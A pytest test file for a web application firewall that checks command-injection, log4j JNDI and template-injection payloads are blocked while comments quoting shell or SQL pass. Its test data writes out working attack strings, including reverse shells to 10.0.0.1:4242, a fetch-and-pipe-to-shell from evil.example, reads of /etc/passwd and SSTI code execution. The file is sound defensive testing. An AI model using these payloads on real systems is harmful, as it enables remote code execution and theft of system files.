"""Rules that generalise beyond the first tuning batches, and prose that quotes code.

Each attack here was missed by the rules before this change (command injection
by structure and quoting tricks, log4j nested lookups, SSTI in engines other
than Jinja2, scanner paths); each benign text was blocked by them (support and
review comments quoting shell or SQL).
"""

from __future__ import annotations

import importlib.util
import json
import re
from pathlib import Path

import pytest

from ramparts.gateway.waf.decode import fold
from ramparts.gateway.waf.engine import Waf
from ramparts.gateway.waf.prefilter import needles
from ramparts.gateway.waf.prose import quoted_in_prose
from ramparts.gateway.waf.request import WafRequest
from ramparts.gateway.waf.rules import default_rules
from tests.gateway.waf.waf_requests import header_request as _header
from tests.gateway.waf.waf_requests import json_request, query_request

WAF = Waf()
ROOT = Path(__file__).resolve().parents[3]


def _json(value: object, field: str = "f") -> WafRequest:
    return json_request(value, field)


def _query(value: str) -> WafRequest:
    return query_request(value)


ATTACKS = [
    # command injection: structure, not payload lists
    "localhost; ps aux", "a`whoami`b", "example.com`id`", "127.0.0.1 -c 1; id", "| tasklist /v",
    "; w\"h\"o\"a\"m\"i", "| wh''oami", ";who$@ami", "|w\\ho\\am\\i", "; i$()d", "x%0Awhoami",
    "/???/c?t /e??/p??swd", "| /usr/bin/w?o?m?", "cat /e*c/pas*d", "$'\\x69\\x64'",
    "--output=/var/www/html/shell.php", "-oProxyCommand=curl evil.example", "--exec=id",
    "; socat tcp-connect:10.0.0.1:4242 exec:sh,pty,stderr", "& certutil -urlcache -split -f http://e/x.exe",
    "| fetch -o - http://evil.example/x | sh", "; lua -e 'os.execute(\"id\")'",
    # log4j
    "${${base64:am5kaQ==}:ldap://evil.example/o}", "${${::-j}nd${upper:\u0131}:ldap://evil.example/o}",
    "${ jndi:ldap://evil.example/o}",
    # SSTI beyond Jinja2
    "{% print(7*7) %}", "{{['id']|filter('system')}}", "{{ {'id':'shell_exec'}|sort }}",
    "#foreach($i in [1..$out.available()])$str.valueOf($chr.toChars($out.read()))#end",
    "<%= require 'open3'; Open3.capture2('id') %>", "${self.module.cache.util.os.system('id')}",
    "{if system('id')}{/if}", "{{#with this}}{{lookup this 'constructor'}}{{/with}}", "@(7*7)",
    "- var x = global.process.mainModule.require('child_process').execSync('id')",
]


@pytest.mark.parametrize("payload", ATTACKS)
def test_new_attack_families_are_blocked_in_a_field_and_a_query(payload: str) -> None:
    for req in (_json(payload), _query(payload)):
        verdict = WAF.inspect(req)
        assert verdict.blocked, (payload, verdict.to_dict())


@pytest.mark.parametrize("path", ["/api/_ignition/execute-solution", "/static/actuator/env",
                                  "/.vscode/sftp.json", "/index.php.swp", "/web.config", "/x.aspx"])
def test_scanner_probe_paths(path: str) -> None:
    assert WAF.inspect(WafRequest("GET", path, "", [], b"", "", "GET /")).blocked


@pytest.mark.parametrize(
    "agent", ["dirsearch/0.4.3", "Mozilla/5.0 (compatible; Qualys)", "ZAP/2.14.0"]
)
def test_scanner_agents(agent: str) -> None:
    assert WAF.inspect(_header("user-agent", agent)).blocked


def test_log4j_lookup_in_an_api_version_header() -> None:
    assert WAF.inspect(_header("x-api-version", "${${lower:j}ndi:ldap://evil.example/a}")).blocked


PROSE = [
    "Try `ls -la ~/.ssh` -- that fixed it for me last week.",
    "Support said to pipe it through `grep -v foo | sort` and send them the result.",
    "Steps to reproduce:\n1. Clone the repo\n2. Run `tail -f /var/log/nginx/error.log`\n"
    "3. Open http://localhost:3000",
    "Why `SELECT id FROM users UNION SELECT id FROM admins` and not a join? Curious.",
    "Why `ORDER BY created_at DESC` and not a join? Curious.",
    "We had an incident from exactly this: `SELECT sleep(1)`. Let's add a test.",
    "Run `npm ci && npm test` before pushing; CI runs the same.",
    "From the runbook: if the queue backs up, `cmd /c dir` then wait five minutes.",
    "```\n$ kill -9 4242\n```\nThis is what I get. Any idea?",
]


@pytest.mark.parametrize("text", PROSE)
def test_prose_quoting_commands_or_sql_is_not_blocked(text: str) -> None:
    verdict = WAF.inspect(_json(text, "comment"))
    assert not verdict.blocked, verdict.to_dict()
    assert all(m.quoted for m in verdict.matches if m.score >= 2)


@pytest.mark.parametrize("value", [
    "(red OR blue) AND size:M", "shoes and (red or blue)", "(a and b) or (c and d)",
    "less sugar; more salt", "time; sleep; repeat", "Tom & Jerry; cat lovers", "0x1F",
    "Drop-off at 3pm; pick-up at 5pm", "red|green|blue", "-created_at",
])
def test_search_syntax_and_english_after_separators_pass(value: str) -> None:
    for req in (_json(value), _query(value)):
        assert not WAF.inspect(req).blocked, value


def test_the_same_command_as_a_value_is_blocked() -> None:
    assert WAF.inspect(_json("x; cat /etc/passwd")).blocked
    assert WAF.inspect(_json("x`ls -la ~/.ssh`")).blocked


def test_strong_markers_block_even_in_prose() -> None:
    text = "Could you try `bash -i >& /dev/tcp/10.0.0.1/4242 0>&1`? It should fix the build."
    verdict = WAF.inspect(_json(text, "comment"))
    assert verdict.blocked
    assert "cmdi-reverse-shell" in [m.rule for m in verdict.matches if not m.quoted]


def test_quoted_matches_together_stay_below_the_threshold() -> None:
    text = ("Please run `cat /etc/passwd`, then `ls -la ~/.ssh` and `curl -s localhost:8080 | sh`, "
            "and paste what you get so we can see it.")
    verdict = WAF.inspect(_json(text, "comment"))
    assert sum(m.score for m in verdict.matches) >= verdict.threshold  # each counted ...
    assert verdict.score < verdict.threshold  # ... but together capped below the threshold


def test_code_is_not_prose() -> None:
    payload = '{{#with "s" as |string|}}{{#with "e"}}{{this.pop}}{{this.push (lookup x.sub)}}'
    assert not quoted_in_prose(payload, 0, 5)
    assert not quoted_in_prose("a`whoami`b", 1, 9)  # no sentence around the backticks
    assert quoted_in_prose("ok, `whoami` works now, closing.", 4, 12)


def _values(directory: Path) -> list[str]:
    out = []
    for line in (directory / "attacks.jsonl").read_text().splitlines():
        req = json.loads(line)["request"]
        out += [str(req.get("query") or ""), str(req.get("body") or ""), str(req.get("path"))]
        out += [str(v) for v in (req.get("headers") or {}).values()]
    return out


def test_prefilter_needles_never_hide_a_match() -> None:
    """Whenever a default pattern matches a tuning attack, one of its needles is there."""
    texts = [fold(v) for v in _values(ROOT / "tests/gateway/waf_corpora/tuning")]
    checked = 0
    for rule in default_rules():
        for pattern in rule.patterns:
            required = needles(pattern)
            if required is None:
                continue
            for text in texts:
                if pattern.search(text):
                    checked += 1
                    assert any(n in text.lower() for n in required), (rule.id, pattern.pattern)
    assert checked > 500


def test_prefilter_needles() -> None:
    assert needles(re.compile(r"\bunion(?: all)? ?select\b")) == {"select"}
    assert needles(re.compile(r"(?:;|&&|\|) ?cat")) == {"cat"}
    assert needles(re.compile(r"[;|&]x?")) is None  # nothing literal it cannot do without


def test_tuning_only_keeps_the_heldout_tables() -> None:
    spec = importlib.util.spec_from_file_location("waf_corpus", ROOT / "bench" / "waf_corpus.py")
    assert spec is not None and spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    old = "\n### tuning corpus (x)\nold\n\n### heldout corpus (y)\n| kept |\n"
    new = module._keep_heldout(old, "### tuning corpus (x)\nnew\n")
    assert "new" in new and "old" not in new and "| kept |" in new
    assert new.index("### tuning") < new.index("### heldout")
